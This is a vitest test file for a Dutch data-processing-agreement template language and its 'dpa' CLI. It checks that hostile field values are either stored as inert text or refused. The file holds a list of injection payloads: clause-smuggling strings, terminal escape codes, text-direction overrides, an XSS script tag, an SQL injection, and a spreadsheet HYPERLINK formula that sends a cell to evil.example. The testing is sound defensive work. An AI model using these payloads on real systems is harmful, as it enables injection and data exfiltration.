import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import {
    fieldValueProblem, instantiateTemplate, structureDifference, templateFieldUses, TemplateValueError,
    type Agreement, type FieldSlot
} from '../../packages/language/src/index.js';
import { check, minimalAgreement, ROOT } from '../helpers.js';

const CLI = join(ROOT, 'packages/cli/dist/cli.cjs');

function dpa(args: string[], cwd: string) {
    const result = spawnSync(process.execPath, [CLI, ...args], { cwd, encoding: 'utf8' });
    return { code: result.status, stdout: result.stdout, stderr: result.stderr };
}

/**
 * A clean template with a field in every kind of place: inside a string on its own (the
 * controller's name) and amid other text (a purpose), a party's KvK number, in place of a date
 * (`effective`, and `duration until`, which no row check covered before) and of a country code.
 */
const TEMPLATE = `template ${minimalAgreement(`
    parameter customerName "Naam van de klant"
    parameter customerKvk "KvK-nummer"
    parameter startDate "Ingangsdatum"
    parameter endDate "Einddatum"
    parameter hostingCountry "Land van de hosting"
`)}`
    .replace('name "Klant B.V."', 'name "{{customerName}}"')
    .replace('purpose "Hosting van de applicatie"', 'purpose "Hosting voor {{ customerName }}, met zorg"')
    .replace('kvk "12345678"', 'kvk "{{customerKvk}}"')
    .replace('effective 2025-01-06', 'effective {{startDate}}')
    .replace('duration main-agreement', 'duration until {{endDate}}')
    .replace('location NL', 'location {{hostingCountry}}');

const GOOD = { customerName: 'Bakkerij De Korst B.V.', customerKvk: '12345678', startDate: '2025-01-06', endDate: '2030-12-31', hostingCountry: 'NL' };
type Field = keyof typeof GOOD;

const INJECTED_CLAUSE = 'clause Injected "Injected" { text "evil" }';

/** Hostile values: each must fill as inert text or be refused. */
const PAYLOADS: readonly string[] = [
    'He said "hi"',
    'back\\slash',
    'trailing backslash \\',
    '\\"',
    '"',
    '"}',
    `"} ${INJECTED_CLAUSE} "`,
    `" } ${INJECTED_CLAUSE} processor X { name "`,
    INJECTED_CLAUSE,
    `2025-01-06\n    ${INJECTED_CLAUSE}`,
    `NL\n    ${INJECTED_CLAUSE}`,
    `12345678" } ${INJECTED_CLAUSE} //`,
    'line one\nline two',
    'line one\r\nline two\rthree',
    'tab\there',
    '{{customerKvk}}',
    '{{ other }}',
    '// a comment',
    '/* an open comment',
    'closing */ comment',
    '\u001b]0;PWNED\u0007',
    '\u001b[2J',
    'nul\u0000byte',
    'del\u007fchar',
    'next line \u0085 (C1)',
    'line\u2028separator',
    'x'.repeat(100_000),
    'Zoë Ørsted – 東京 🙂',
    '\u202eevil\u202c',
    '\u2066isolate\u2069',
    'lone \ud800 surrogate',
    '=HYPERLINK("https://evil.example/?"&A2)',
    '<script>alert(1)</script>',
    "' OR 1=1 --",
    '2025-02-30',
    '20250106',
    '2025-01-06',
    'nl',
    'XX',
    'NL',
    '12345678',
    ' '
];

/** What each field is read back as from the filled agreement's model. */
const READ_BACK: Record<Field, { slot: FieldSlot; read: (a: Agreement) => string | undefined }> = {
    customerName: { slot: 'text', read: a => a.parties.find(p => p.role === 'controller')?.legalName },
    customerKvk: { slot: 'kvk', read: a => a.parties.find(p => p.role === 'controller')?.kvk },
    startDate: { slot: 'date', read: a => a.effective },
    endDate: { slot: 'date', read: a => a.clauses.find(c => c.$type === 'DurationClause')?.end },
    hostingCountry: { slot: 'country', read: a => a.processings[0]?.locations[0]?.country }
};

describe('template fields are filled as values, never as source', () => {
    test('the slot of every field comes from the grammar: string, KvK string, DateValue, CountryCode', async () => {
        const template = await check(TEMPLATE);
        expect(template.document.parseResult.parserErrors).toEqual([]);
        const slots = templateFieldUses(template.document).map(u => `${u.name}:${u.slot}`);
        expect(new Set(slots)).toEqual(new Set(['customerName:text', 'customerKvk:kvk', 'startDate:date', 'endDate:date', 'hostingCountry:country']));
        expect(slots.filter(s => s === 'customerName:text')).toHaveLength(2);
    });

    const fields = Object.keys(GOOD) as Field[];
    test.each(fields)('%s: every hostile value fills as inert text of the same structure, or is refused', async field => {
        const template = await check(TEMPLATE);
        const { slot, read } = READ_BACK[field];
        let filledCount = 0;
        for (const payload of PAYLOADS) {
            const values = { ...GOOD, [field]: payload };
            const problem = fieldValueProblem(slot, payload);
            if (problem !== undefined) {
                expect(() => instantiateTemplate(template.document, values), JSON.stringify(payload.slice(0, 40))).toThrow(TemplateValueError);
                continue;
            }
            filledCount++;
            const filled = await check(instantiateTemplate(template.document, values));
            const label = `${field} = ${JSON.stringify(payload.slice(0, 40))}`;
            expect(filled.document.parseResult.parserErrors, label).toEqual([]);
            expect(filled.document.parseResult.lexerErrors, label).toEqual([]);
            expect(structureDifference(template.document.parseResult.value, filled.document.parseResult.value), label).toBeUndefined();
            const agreement = filled.agreement!;
            expect(agreement.template, label).toBe(false);
            expect(agreement.clauses.some(c => c.$type === 'CustomClause'), label).toBe(false);
            // Inside a string the value is the text itself, line breaks and tabs as spaces.
            expect(read(agreement), label).toBe(slot === 'text' ? payload.replace(/\r\n|[\r\n\t\u2028]/g, ' ') : payload);
            if (field === 'customerName') expect(agreement.processings[0]!.purposes[0]).toBe(`Hosting voor ${read(agreement)}, met zorg`);
        }
        expect(filledCount).toBeGreaterThan(0);
    });

    test('what is refused and why', () => {
        expect(fieldValueProblem('date', `2025-01-06\n    ${INJECTED_CLAUSE}`)).toMatch(/^not a date: '2025-01-06\n/);
        expect(fieldValueProblem('date', '2025-02-30')).toBe("no such date: '2025-02-30'");
        expect(fieldValueProblem('country', `NL\n${INJECTED_CLAUSE}`)).toMatch(/^unknown country code/);
        expect(fieldValueProblem('country', 'nl')).toBe("country code 'nl' must be in capitals: NL");
        expect(fieldValueProblem('kvk', '1234567')).toBe("a KvK number has 8 digits, got '1234567'");
        expect(fieldValueProblem('text', '\u001b[2J')).toBe('contains a control character (U+001B); remove it');
        expect(fieldValueProblem('text', 'a\u0000b')).toBe('contains a control character (U+0000); remove it');
        expect(fieldValueProblem('text', '\u202eevil')).toBe('contains an invisible text-direction control (U+202E); remove it');
        expect(fieldValueProblem('text', '{{ other }}')).toBe('contains a template field ({{ other }}); a value cannot fill in other fields');
        expect(fieldValueProblem('text', 'x'.repeat(100_000))).toBe('too long: 100000 characters (at most 10000)');
        expect(fieldValueProblem('text', 'lone \ud800')).toBe('not valid Unicode text (a lone surrogate)');
        expect(fieldValueProblem('text', 'He said "hi" \\ "}')).toBeUndefined();
        expect(fieldValueProblem('date', '2025-02-30', 'nl')).toBe("deze datum bestaat niet: '2025-02-30'");
    });
});

describe('through the real CLI', () => {
    /** The article headings of a generated Markdown agreement. */
    const articles = (markdown: string) => markdown.split('\n').filter(line => /^## /.test(line));

    test.each([...Object.keys(GOOD), 'name column'])('dpa batch, hostile values for %s: each row is a file of the same articles, or a row error', field => {
        const dir = mkdtempSync(join(tmpdir(), 'dpa-values-'));
        writeFileSync(join(dir, 'template.dpa'), TEMPLATE);
        const rows = PAYLOADS.map((payload, i) => field === 'name column'
            ? { ...GOOD, label: payload }
            : { ...GOOD, [field]: payload, label: `row ${i + 1}` });
        writeFileSync(join(dir, 'rows.json'), JSON.stringify(rows));
        const baseline = dpa(['generate', 'template.dpa', ...Object.entries(GOOD).flatMap(([k, v]) => ['--set', `${k}=${v}`]), '--out', 'baseline'], dir);
        expect(baseline.code, baseline.stderr).toBe(0);
        const expected = articles(readFileSync(join(dir, 'baseline', 'template.md'), 'utf8'));
        expect(expected.length).toBeGreaterThan(15);

        const result = dpa(['batch', 'template.dpa', 'rows.json', '--out', 'out', '--name-column', 'label'], dir);
        expect([0, 1]).toContain(result.code);
        const lines = result.stderr.split('\n');
        const files = readdirSync(join(dir, 'out'));
        let generated = 0;
        PAYLOADS.forEach((payload, i) => {
            const rowError = lines.some(line => line.startsWith(`rows.json:${i + 1}: `));
            if (field === 'name column') {
                // The name column only names the file: every row is generated, under a safe name.
                expect(rowError, JSON.stringify(payload.slice(0, 40))).toBe(false);
                return;
            }
            const file = join(dir, 'out', `row-${i + 1}.md`);
            expect(rowError !== existsSync(file), `${field} = ${JSON.stringify(payload.slice(0, 40))}: a file or a row error, not both or neither`).toBe(true);
            if (!rowError) {
                generated++;
                const markdown = readFileSync(file, 'utf8');
                expect(articles(markdown)).toEqual(expected);
                expect(markdown).not.toMatch(/\{\{/);
                expect(markdown).not.toMatch(/^#+ .*Injected/m);
            } else {
                expect(lines.some(line => line.startsWith(`rows.json:${i + 1}: ${field}: `))).toBe(true);
            }
        });
        if (field === 'name column') {
            expect(files).toHaveLength(PAYLOADS.length);
            for (const name of files) {
                expect(name).toMatch(/^[a-z0-9][a-z0-9-]*\.md$/);
                expect(name.length).toBeLessThanOrEqual(83);
                for (const markdown of [readFileSync(join(dir, 'out', name), 'utf8')]) expect(articles(markdown)).toEqual(expected);
            }
        } else {
            expect(generated).toBeGreaterThan(0);
            expect(files).toHaveLength(generated);
        }
        // Nothing on the terminal raw: no ESC, NUL or text-direction override in the messages.
        // eslint-disable-next-line no-control-regex -- the characters under test
        expect(result.stderr).not.toMatch(/[\u0000\u001b\u202e]/);
    }, 120_000);

    test('dpa generate --set: a value that does not fit is a usage error naming the field; an unknown field too', () => {
        const dir = mkdtempSync(join(tmpdir(), 'dpa-values-'));
        writeFileSync(join(dir, 'template.dpa'), TEMPLATE);
        const set = (values: Record<string, string>) => Object.entries(values).flatMap(([k, v]) => ['--set', `${k}=${v}`]);
        const injected = dpa(['generate', 'template.dpa', ...set({ ...GOOD, startDate: `2025-01-06\n    ${INJECTED_CLAUSE}` }), '--out', 'out'], dir);
        expect(injected.code).toBe(2);
        expect(injected.stderr).toMatch(/^--set startDate: not a date: '2025-01-06/);
        expect(existsSync(join(dir, 'out'))).toBe(false);

        const country = dpa(['generate', 'template.dpa', ...set({ ...GOOD, hostingCountry: `NL ${INJECTED_CLAUSE}` }), '--out', 'out'], dir);
        expect(country.code).toBe(2);
        expect(country.stderr).toMatch(/^--set hostingCountry: unknown country code/);

        const unknown = dpa(['generate', 'template.dpa', ...set({ ...GOOD, nosuch: 'x' }), '--out', 'out'], dir);
        expect(unknown.code).toBe(2);
        expect(unknown.stderr).toContain("--set nosuch: the template declares no field 'nosuch' (its fields: customerName, customerKvk, startDate, endDate, hostingCountry).");

        const twice = dpa(['generate', 'template.dpa', ...set(GOOD), '--set', 'startDate=2025-02-01', '--out', 'out'], dir);
        expect(twice.code).toBe(2);
        expect(twice.stderr).toContain('--set startDate is given twice');

        const inert = dpa(['generate', 'template.dpa', ...set({ ...GOOD, customerName: `X"} ${INJECTED_CLAUSE} //` }), '--out', 'out'], dir);
        expect(inert.code, inert.stderr).toBe(0);
        const markdown = readFileSync(join(dir, 'out', 'template.md'), 'utf8');
        expect(markdown).not.toMatch(/^## .*Injected/m);
        expect(markdown).toContain('clause Injected');
    });
});
